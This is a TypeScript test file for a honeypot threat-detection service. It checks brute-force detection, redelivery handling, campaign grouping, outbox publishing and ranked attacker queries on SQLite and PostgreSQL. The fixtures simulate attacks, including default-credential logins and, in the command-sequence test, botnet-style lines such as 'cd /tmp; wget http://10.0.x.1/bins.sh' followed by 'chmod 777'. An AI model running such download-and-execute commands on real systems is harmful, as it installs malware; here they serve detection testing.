/**
 * The pipeline on both stores: profiles and aggregates written in batches, redelivery applied once, detections
 * published after commit (with the inventory device for internal sources), campaigns, the hot-set bound, and the
 * repositories' ranked lists.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { MemoryBus } from '../../src/core/bus/memory-bus.js';
import { defaultConfig } from '../../src/core/config/defaults.js';
import type { AnyEvent, LnmtEvent } from '../../src/core/events.js';
import { silentLogger } from '../../src/core/logger.js';
import { DeviceRepo } from '../../src/store/repositories/device-repo.js';
import type { Store } from '../../src/store/store.js';
import { ThreatService } from '../../src/threat/threat-service.js';
import { postgresDialect, requirePostgres, sqliteDialect, type Dialect } from '../fixtures/dialects.js';
import { auth, canary, close, command, connect, T0, TestClock } from './helpers.js';

const DIALECTS: Array<() => Dialect> = [sqliteDialect, postgresDialect];

function config(extra: Record<string, unknown> = {}) {
  const c = defaultConfig();
  c.node.name = 'hub-test';
  c.threat = { halfLifeMs: 3_600_000, ...extra };
  return c;
}

async function harness(store: Store, extra: Record<string, unknown> = {}) {
  const bus = new MemoryBus({ logger: silentLogger() });
  const out: AnyEvent[] = [];
  bus.subscribe({ name: 'watch', types: ['threat.detected', 'campaign.*'] }, (b) => void out.push(...b));
  const clock = new TestClock(T0 + 3_600_000);
  const svc = new ThreatService({ store, bus, config: config(extra), logger: silentLogger(), clock });
  await svc.start();
  return { bus, out, clock, svc, detections: () => out.filter((e): e is LnmtEvent<'threat.detected'> => e.type === 'threat.detected') };
}

for (const mk of DIALECTS) {
  const d = mk();
  describe(`threat pipeline on ${d.name}`, () => {
    let store: Store;
    let up = true;
    before(async () => {
      if (d.name === 'postgres') up = await requirePostgres('threat pipeline');
      if (up) store = await d.open();
    });
    after(() => d.cleanup());

    it('brute force from the bus: one detection, profile with counts, score and evidence; redelivery applies nothing twice', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store);
      const evs = Array.from({ length: 30 }, (_, i) => auth(T0 + i * 100, '203.0.113.50', 'root', `pw${i}`));
      await h.bus.publish(evs);
      await h.bus.drain();
      assert.equal(h.detections().filter((e) => e.data.rule === 'brute-force').length, 1);
      const det = h.detections().find((e) => e.data.rule === 'brute-force')!;
      assert.equal(det.data.src_ip, '203.0.113.50');
      assert.equal(det.data.severity, 'high');
      assert.equal(det.data.evidence.length, 10);
      assert.deepEqual(det.data.sensors, ['test-sensor']);
      assert.equal(det.data.device, undefined);
      // Redelivery (a consumer crashed before its ack): same ids again.
      await h.svc.pipeline.ingest(evs);
      // Profiles are written behind (threat.profileFlushMs); flush() writes them now.
      await h.svc.pipeline.flush();
      const row = await h.svc.repos.profiles.get('ip', '203.0.113.50');
      assert.equal(Number(row!.events), 30);
      const body = JSON.parse(row!.body) as { counts: { auths: number }; credentials: string[] };
      assert.equal(body.counts.auths, 30);
      assert.equal(body.credentials.length, 30);
      assert.equal(await store.db.selectFrom('events').select((eb) => eb.fn.countAll<number>().as('n')).where('src_ip', '=', '203.0.113.50').executeTakeFirstOrThrow().then((r) => Number(r.n)), 30);
      // 30 auths × 2 + one high detection (25), decayed over 1 h minus ~3 s: just under half.
      const { items } = await h.svc.queries.attackers({ sort: 'score', limit: 10, offset: 0 });
      const a = items.find((x) => x.ip === '203.0.113.50')!;
      assert.ok(a.score > 42 && a.score < 43, String(a.score));
      assert.equal(h.svc.pipeline.stats.duplicates, 30);
      await h.svc.stop();
    });

    it('a failed transaction: memory is rebuilt from the store and the batch log; the redelivered batch counts once', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store, { profileFlushMs: 60_000 });
      const src = '203.0.113.90';
      const first = Array.from({ length: 12 }, (_, i) => auth(T0 + 10_000 + i * 100, src, 'admin', `p${i}`));
      await h.svc.pipeline.ingest(first);
      assert.equal(h.svc.pipeline.stats.dirtyProfiles > 0, true, 'written behind: nothing stored yet');
      // The next batch's transaction fails after its events were applied in memory (and rolls back).
      const log = h.svc.repos.log;
      const append = log.append.bind(log);
      log.append = () => Promise.reject(new Error('disk full'));
      const second = Array.from({ length: 5 }, (_, i) => auth(T0 + 20_000 + i * 100, src, 'admin', `q${i}`));
      await assert.rejects(h.svc.pipeline.ingest(second), /disk full/);
      log.append = append;
      await h.svc.pipeline.ingest(second);
      await h.bus.drain();
      await h.svc.pipeline.flush();
      const row = await h.svc.repos.profiles.get('ip', src);
      assert.equal(Number(row!.events), 17, 'first batch rebuilt from the log, second counted once');
      assert.equal((JSON.parse(row!.body) as { counts: { auths: number } }).counts.auths, 17);
      const cred = await h.svc.repos.profiles.get('cred', 'admin:q0');
      assert.equal(Number(cred!.events), 1);
      // The brute force fired in the first batch; the rebuilt windows keep it suppressed.
      assert.equal(h.detections().filter((e) => e.data.rule === 'brute-force' && e.data.src_ip === src).length, 1);
      await h.svc.stop();
    });

    it('events arriving while profiles are being written are processed, not left queued', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store, { profileFlushMs: 60_000 });
      await h.svc.pipeline.ingest([connect(T0 + 30_000, '203.0.113.91', 22)]);
      const profiles = h.svc.repos.profiles;
      const upsert = profiles.upsertMany.bind(profiles);
      let late: Promise<void> | null = null;
      profiles.upsertMany = (rows, db) => {
        // The first write is the flush below: a delivery comes in while it runs.
        late ??= h.svc.pipeline.ingest([connect(T0 + 30_001, '203.0.113.92', 22)]);
        return upsert(rows, db);
      };
      await h.svc.pipeline.flush();
      const stuck = new Promise<string>((r) => setTimeout(() => r('stuck'), 5000).unref());
      assert.equal(await Promise.race([late!.then(() => 'done'), stuck]), 'done');
      profiles.upsertMany = upsert;
      await h.svc.pipeline.flush();
      assert.equal(Number((await profiles.get('ip', '203.0.113.92'))!.events), 1);
      await h.svc.stop();
    });

    it('an internal source: the detection names the device and its severity is raised', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const dev = await new DeviceRepo(store.db, store.dialect).insert({ ip: '10.9.8.7', mac: 'aa:bb:cc:dd:ee:ff', vendor: 'Acme', hostname: 'printer-3', source: 'manual' }, store.db, T0 - 86_400_000);
      await store.db.updateTable('devices').set({ first_seen: T0 - 86_400_000 }).where('id', '=', dev.id).execute();
      const h = await harness(store);
      await h.bus.publish([auth(T0, '10.9.8.7', 'admin', 'admin', true)]);
      await h.bus.drain();
      const det = h.detections().find((e) => e.data.rule === 'honeypot-login')!;
      assert.equal(det.data.severity, 'critical', 'high raised one step');
      assert.equal(det.data.device?.hostname, 'printer-3');
      assert.equal(det.data.device?.mac, 'aa:bb:cc:dd:ee:ff');
      assert.equal(det.data.device?.first_seen, new Date(T0 - 86_400_000).toISOString());
      assert.match(det.data.summary, /internal device printer-3/);
      await h.svc.pipeline.flush();
      const { items } = await h.svc.queries.attackers({ sort: 'score', limit: 10, offset: 0, internal: true });
      assert.deepEqual(items.map((i) => i.ip), ['10.9.8.7']);
      await h.svc.stop();
    });

    it('canary use is critical; a decoy scan fires decoy-scan', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store);
      await h.bus.publish([canary(T0, '198.51.100.77'), ...[21, 23, 8081, 9000, 5555, 6000].map((p, i) => connect(T0 + i, '198.51.100.78', 30000 + i, p))]);
      await h.bus.drain();
      assert.equal(h.detections().find((e) => e.data.src_ip === '198.51.100.77')?.data.severity, 'critical');
      assert.ok(h.detections().some((e) => e.data.src_ip === '198.51.100.78' && e.data.rule === 'decoy-scan'));
      await h.svc.stop();
    });

    it('campaigns: three sources sharing a credential, then growth past the factor', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store, { campaigns: { minMembers: 3, growthFactor: 2 } });
      const srcs = Array.from({ length: 6 }, (_, i) => `192.0.2.${100 + i}`);
      await h.bus.publish(srcs.slice(0, 2).map((s, i) => auth(T0 + i, s, 'pi', 'raspberryXYZ')));
      await h.bus.drain();
      const creds = (type: string) => h.out.filter((e): e is LnmtEvent<'campaign.detected'> => e.type === type && (e as LnmtEvent<'campaign.detected'>).data.kind === 'credentials');
      assert.equal(creds('campaign.detected').length, 0);
      await h.bus.publish([auth(T0 + 10, srcs[2]!, 'pi', 'raspberryXYZ', false, 'sensor-b')]);
      await h.bus.drain();
      const c = creds('campaign.detected');
      // Three new sources in the same minute on two sensors: also a timing campaign.
      assert.equal(h.out.filter((e) => e.type === 'campaign.detected' && (e as LnmtEvent<'campaign.detected'>).data.kind === 'timing').length, 1);
      assert.equal(c.length, 1);
      assert.equal(c[0]!.data.kind, 'credentials');
      assert.equal(c[0]!.data.key, 'pi:raspberryXYZ');
      assert.equal(c[0]!.data.members, 3);
      assert.deepEqual(c[0]!.data.sensors.sort(), ['sensor-b', 'test-sensor']);
      await h.bus.publish(srcs.slice(3).map((s, i) => auth(T0 + 20 + i, s, 'pi', 'raspberryXYZ')));
      await h.bus.drain();
      const u = creds('campaign.updated');
      assert.equal(u.length, 1);
      assert.equal(u[0]!.data.members, 6);
      assert.equal(u[0]!.data.campaign_id, c[0]!.data.campaign_id);
      const list = await h.svc.queries.campaigns({ sort: 'members', limit: 10, offset: 0, kind: 'credentials' });
      assert.equal(list.items.find((x) => x.key === 'pi:raspberryXYZ')?.members, 6);
      await h.svc.stop();
    });

    it('campaign events go through the outbox: a failed publish leaves them there, start-up publishes them', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store, { campaigns: { minMembers: 2, growthFactor: 2 } });
      const realPublish = h.bus.publish.bind(h.bus);
      let failing = true;
      h.bus.publish = async (events) => {
        if (failing && events.some((e) => e.type.startsWith('campaign.'))) throw new Error('bus down');
        return realPublish(events);
      };
      await h.svc.pipeline.ingest(['198.18.200.1', '198.18.201.1'].map((s, i) => auth(T0 + i, s, 'outbox', 'campaign-pw')));
      const pending = await store.db.selectFrom('threat_outbox').select(['id', 'body']).execute();
      const kinds = pending.map((r) => (JSON.parse(r.body) as LnmtEvent<'campaign.detected'>).data.kind).sort();
      assert.ok(kinds.includes('credentials'), `outbox holds the credentials campaign: ${kinds.join(', ')}`);
      assert.equal(h.out.filter((e) => e.type.startsWith('campaign.')).length, 0, 'nothing reached the bus');
      failing = false;
      assert.ok((await h.svc.pipeline.republish()) >= pending.length);
      await h.bus.drain();
      assert.deepEqual(h.out.filter((e) => e.type.startsWith('campaign.')).map((e) => e.id).sort(), pending.map((r) => r.id).sort());
      assert.equal((await store.db.selectFrom('threat_outbox').select('id').execute()).length, 0, 'outbox emptied');
      await h.svc.stop();
    });

    it('a restart keeps the rule windows: a brute force spanning it fires, one that fired stays suppressed', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const first = await harness(store);
      const now = first.clock.now();
      const spanning = '198.18.210.1';
      const fired = '198.18.210.2';
      await first.bus.publish(Array.from({ length: 6 }, (_, i) => auth(now - 40_000 + i * 1000, spanning, 'root', `a${i}`)));
      await first.bus.publish(Array.from({ length: 10 }, (_, i) => auth(now - 40_000 + i * 1000, fired, 'root', `b${i}`)));
      await first.bus.drain();
      const brute = (h: Awaited<ReturnType<typeof harness>>, ip: string) => h.detections().filter((e) => e.data.rule === 'brute-force' && e.data.src_ip === ip).length;
      assert.equal(brute(first, spanning), 0);
      assert.equal(brute(first, fired), 1);
      await first.svc.stop();

      const second = await harness(store);
      second.clock.t = now;
      await second.bus.publish(Array.from({ length: 4 }, (_, i) => auth(now - 20_000 + i * 1000, spanning, 'root', `c${i}`)));
      await second.bus.publish(Array.from({ length: 10 }, (_, i) => auth(now - 20_000 + i * 1000, fired, 'root', `d${i}`)));
      await second.bus.drain();
      assert.equal(brute(second, spanning), 1, '6 attempts before the restart and 4 after make 10 within the minute');
      assert.equal(brute(second, fired), 0, 'fired 20 s before the restart: still suppressed');
      await second.svc.stop();
    });

    it('command-sequence campaigns group sessions typing the same script from different hosts', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store, { campaigns: { minMembers: 3 } });
      const evs: AnyEvent[] = [];
      for (let i = 0; i < 3; i++) {
        const src = `198.18.0.${i + 1}`;
        const s = `sess-${i}`;
        evs.push(command(T0 + i, src, `cd /tmp; wget http://10.0.${i}.1/bins.sh`, s), command(T0 + i, src, 'chmod 777 bins.sh', s), close(T0 + i + 1, src, s));
      }
      await h.bus.publish(evs);
      await h.bus.drain();
      assert.equal(h.out.filter((e) => e.type === 'campaign.detected' && (e as LnmtEvent<'campaign.detected'>).data.kind === 'commands').length, 1);
      await h.svc.stop();
    });

    it('the hot set stays within its cap; evicted profiles come back from the store intact', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store, { hotProfiles: 100, maxBatch: 10 });
      const n = 400;
      for (let i = 0; i < n; i += 10) await h.svc.pipeline.ingest(Array.from({ length: 10 }, (_, k) => connect(T0 + i + k, `100.64.${(i + k) >> 8}.${(i + k) & 255}`, 22)));
      // The cap, plus the profiles written behind (at most as many again), plus one batch's worth.
      assert.ok(h.svc.pipeline.hotProfiles <= 100 + 100 + 10 * 6, String(h.svc.pipeline.hotProfiles));
      await h.svc.pipeline.ingest([connect(T0 + 1000, '100.64.0.0', 23)]);
      await h.svc.pipeline.flush();
      const row = await h.svc.repos.profiles.get('ip', '100.64.0.0');
      assert.equal(Number(row!.events), 2);
      assert.deepEqual((JSON.parse(row!.body) as { ports: number[] }).ports, [22, 23]);
      assert.equal(await h.svc.repos.profiles.count('ip') >= n, true);
      await h.svc.stop();
    });

    it('ranked lists: sort by decayed score, min_score, prefix; paging says when more follow', async (t) => {
      if (!up) return t.skip('PostgreSQL not reachable');
      const h = await harness(store);
      const page1 = await h.svc.queries.attackers({ sort: 'score', limit: 3, offset: 0 });
      const page2 = await h.svc.queries.attackers({ sort: 'score', limit: 3, offset: 3 });
      assert.equal(page1.more, true);
      const scores = [...page1.items, ...page2.items].map((i) => i.score);
      assert.deepEqual(scores, [...scores].sort((a, b) => b - a));
      const min = await h.svc.queries.attackers({ sort: 'score', limit: 1000, offset: 0, minScore: 10 });
      assert.ok(min.items.length > 0 && min.items.every((i) => i.score >= 10));
      const pre = await h.svc.queries.attackers({ sort: 'last_seen', limit: 1000, offset: 0, prefix: '100.64.1.' });
      assert.ok(pre.items.length > 0 && pre.items.every((i) => i.ip.startsWith('100.64.1.')));
      const one = await h.svc.queries.attacker('203.0.113.50', { events: 5, detections: 10 });
      assert.equal(one!.timeline.length, 5);
      assert.equal(one!.detections[0]!.rule, 'brute-force');
      assert.equal(one!.attacker.network?.key, '203.0.113.0/24');
      await h.svc.stop();
    });
  });
}
